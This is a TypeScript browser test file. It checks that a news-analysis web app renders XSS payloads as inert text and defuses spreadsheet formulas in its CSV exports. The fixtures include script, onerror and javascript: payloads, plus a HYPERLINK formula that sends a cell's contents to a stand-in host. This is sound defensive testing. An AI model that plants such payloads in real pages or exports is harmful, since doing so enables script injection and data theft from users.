/**
 * Article text is data, never markup: an article whose text, title, outlet name and URL carry script, an event
 * handler and a javascript: link is stored as the CLI stores it and opened in Chromium on every page that shows
 * it. Nothing runs, nothing of it becomes an element, and it reads as the text it is. Exports of outlet names that
 * a spreadsheet would take for formulas are defused.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsvRows } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import type { ArticleInput } from '@/lib/ingest/types';
import { requireServer } from '../helpers/database';
import { browserAvailable, seededAppAndBrowser, type SeededApp } from './support';

const SCRIPT = '<script>window.__pwned=1</script>';
const IMG = '<img src=x onerror="window.__pwned=2">';
const LINK = '<a href="javascript:window.__pwned=3">click</a>';
const OUTLET = `Evil ${SCRIPT} ${IMG} ${LINK} News`;
const TITLE = `Talks reportedly stall ${SCRIPT} ${IMG} ${LINK}`;
/** Outlet names a spreadsheet would evaluate if a CSV cell started with them. */
const FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"x")', '+SUM(1,1)', '-2+3', '@SUM(A1:A2)'];

const hostile: ArticleInput = {
  outlet: OUTLET,
  title: TITLE,
  url: 'javascript:window.__pwned=4',
  publishedAt: new Date('2021-03-10T00:00:00Z'),
  sourceFile: 'hostile.txt',
  body: [
    `Officials reportedly said the talks may collapse ${SCRIPT} according to sources close to the negotiations.`,
    `The minister allegedly claimed ${IMG} that the deal was a disaster for the region and its people.`,
    `Critics perhaps suggest ${LINK} the plan might fail badly, and the opposition criticized the government sharply.`,
    'Analysts said the outcome remains uncertain, although some officials appeared hopeful about a compromise.',
  ].join('\n\n'),
};

const formulaArticles: ArticleInput[] = FORMULAS.map((outlet, i) => ({
  outlet,
  title: `Report number ${i + 1} on the talks`,
  publishedAt: new Date('2021-03-11T00:00:00Z'),
  sourceFile: `formula-${i}.txt`,
  body: `Officials reportedly said talks may resume, report ${i + 1} notes. The minister criticized the proposal, and analysts said it could perhaps fail. Negotiators appeared hopeful ${'again '.repeat(i + 1)}about a deal.`,
}));

const serverAvailable = await requireServer();

describe.runIf(serverAvailable && browserAvailable)('article text is data, never markup', () => {
  const ids = { article: 0, outlet: '', metric: '' };
  let env: SeededApp;

  beforeAll(async () => {
    env = await seededAppAndBrowser([hostile, ...formulaArticles], async (db) => {
      const article = await db.article.findFirstOrThrow({ where: { sourceFile: 'hostile.txt' }, include: { outlet: true } });
      ids.article = article.id;
      ids.outlet = article.outlet.slug;
      // Hedges: the evidence page then lists the sentences that carry the markup ("reportedly", "allegedly", "perhaps").
      expect(await db.marker.count({ where: { articleId: article.id, family: 'hedge', sentenceIndex: { lt: 3 } } })).toBeGreaterThan(0);
      ids.metric = 'hedge';
    });
  });
  afterAll(() => env?.close());

  /** Opens a page with a listener for CSP violations: markup that got in would trip the policy even when blocked. */
  async function open(url: string) {
    const context = await env.browser.newContext({ acceptDownloads: true });
    const page = await context.newPage();
    const events: string[] = [];
    page.on('dialog', (d) => {
      events.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    page.on('pageerror', (e) => events.push(`pageerror: ${e.message}`));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        const w = window as unknown as { __violations?: string[] };
        (w.__violations ??= []).push(`${e.violatedDirective} ${e.blockedURI}`);
      });
    });
    const res = await page.goto(`${env.app.url}${url}`, { waitUntil: 'networkidle' });
    expect(res?.status(), url).toBe(200);
    return { page, events, close: () => context.close() };
  }

  /** What the page made of the text: anything but zeros and undefined means markup got in. */
  function inspect(page: Page) {
    return page.evaluate(() => {
      const w = window as unknown as { __pwned?: unknown; __violations?: string[] };
      return {
        pwned: w.__pwned,
        violations: w.__violations ?? [],
        // The text's own script would be an element whose whole content is the payload (Next's data scripts carry
        // the text inside a JSON string, which is fine).
        scripts: [...document.querySelectorAll('script')].filter((s) => /^\s*window\.__pwned/.test(s.textContent ?? '')).length,
        handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
        jsLinks: [...document.querySelectorAll('[href], [src], [action], [formaction]')]
          .map((el) => el.getAttribute('href') ?? el.getAttribute('src') ?? el.getAttribute('action') ?? el.getAttribute('formaction') ?? '')
          .filter((v) => /^\s*javascript:/i.test(v)),
        images: [...document.querySelectorAll('img')].filter((i) => i.getAttribute('src') === 'x').length,
        text: document.body.innerText,
        svgText: [...document.querySelectorAll('svg text, svg title')].map((t) => t.textContent ?? '').join('\n'),
      };
    });
  }

  const clean = { pwned: undefined, violations: [], scripts: 0, handlers: [], jsLinks: [], images: 0 };

  const pages = () => [
    { name: 'article', url: `/articles/${ids.article}`, shows: [TITLE, SCRIPT, IMG, LINK, OUTLET] },
    { name: 'overview', url: '/', shows: [OUTLET, TITLE] },
    { name: 'outlets table', url: '/outlets', shows: [OUTLET] },
    { name: 'outlet profile', url: `/outlets/${ids.outlet}`, shows: [OUTLET, TITLE] },
    { name: 'evidence', url: `/outlets/${ids.outlet}/evidence?metric=${ids.metric}`, shows: [OUTLET, TITLE] },
    { name: 'chart', url: '/charts?type=bars&metric=sentiment.negative', shows: [] },
  ];

  it('runs nothing and shows the markup as text on every page that shows it', async () => {
    for (const p of pages()) {
      const { page, events, close } = await open(p.url);
      try {
        await page.waitForTimeout(300);
        const seen = await inspect(page);
        expect({ pwned: seen.pwned, violations: seen.violations, scripts: seen.scripts, handlers: seen.handlers, jsLinks: seen.jsLinks, images: seen.images }, p.name).toEqual(clean);
        expect(events, p.name).toEqual([]);
        for (const text of p.shows) expect(seen.text, `${p.name} shows ${text}`).toContain(text);
        if (p.name === 'evidence') expect(seen.text).toMatch(/<script>window\.__pwned=1<\/script>|<img src=x onerror="window\.__pwned=2">|<a href="javascript:window\.__pwned=3">click<\/a>/);
        // The chart draws outlet names in SVG (perhaps shortened): as text there too.
        if (p.name === 'chart') expect(seen.svgText + seen.text).toContain('<script>');
      } finally {
        await close();
      }
    }
  });

  it('clicking the rendered link text runs nothing and goes nowhere', async () => {
    const { page, events, close } = await open(`/articles/${ids.article}`);
    try {
      const before = page.url();
      const target = page.locator('ol.sentences li', { hasText: 'javascript:window.__pwned=3' }).first();
      await target.getByText('click</a>', { exact: false }).first().click();
      await page.waitForTimeout(300);
      expect(page.url()).toBe(before);
      expect(await inspect(page).then((s) => ({ pwned: s.pwned, violations: s.violations, jsLinks: s.jsLinks }))).toEqual({ pwned: undefined, violations: [], jsLinks: [] });
      // The stored javascript: URL is not offered as the "original" link.
      expect(await page.locator('a', { hasText: 'original' }).count()).toBe(0);
      expect(events).toEqual([]);
    } finally {
      await close();
    }
  });

  it('exports CSV without cells a spreadsheet would run, and JSON with the names as they are', async () => {
    const { page, close } = await open('/outlets');
    try {
      const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download CSV' }).click()]);
      const rows = parseCsvRows(readFileSync((await csvDownload.path())!, 'utf8'));
      const header = rows[0];
      expect(header[0]).toBe('outlet');
      const body = rows.slice(1);
      expect(body.length).toBe(FORMULAS.length + 1);
      const names = body.map((r) => r[0]);
      // Every formula-like name is there, defused by a leading apostrophe (what spreadsheets show as text).
      for (const f of FORMULAS) expect(names).toContain(`'${f}`);
      expect(names).toContain(OUTLET);
      // No cell anywhere starts a formula, except numbers (a negative figure is a number, not a formula).
      const risky = body.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));
      expect(risky).toEqual([]);

      const [jsonDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download JSON' }).click()]);
      const records = JSON.parse(readFileSync((await jsonDownload.path())!, 'utf8')) as Array<{ outlet: string }>;
      expect(records.map((r) => r.outlet).sort()).toEqual([...FORMULAS, OUTLET].sort());
    } finally {
      await close();
    }
  });
});
